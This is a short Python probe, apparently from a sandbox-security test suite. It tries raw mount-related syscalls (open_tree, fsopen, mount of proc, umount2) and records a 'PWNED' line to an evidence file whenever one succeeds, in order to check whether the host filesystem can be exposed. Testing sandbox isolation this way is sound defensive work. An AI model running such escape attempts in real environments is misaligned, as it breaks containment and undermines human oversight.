# attack: mounts
# kind: leak   task: any   naive: unsafe
# attempts: mount what shows the host
import os

def evidence(found="yes"):
    said = f"PWNED mounts {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/mounts", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import ctypes

libc = ctypes.CDLL(None, use_errno=True)

def call(number, *args):  # x86-64 numbers
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, args)), ctypes.get_errno()

proc, here = ctypes.create_string_buffer(b"proc"), ctypes.create_string_buffer(b".")
for what, number, args in (
    ("open_tree", 428, (-100, ctypes.addressof(here), 1)),
    ("fsopen", 430, (ctypes.addressof(proc), 0)),
    ("mount", 165, (ctypes.addressof(proc), ctypes.addressof(here), ctypes.addressof(proc), 0, 0)),
    ("umount2", 166, (ctypes.addressof(here), 2)),
):
    if call(number, *args)[0] >= 0:
        evidence(what)
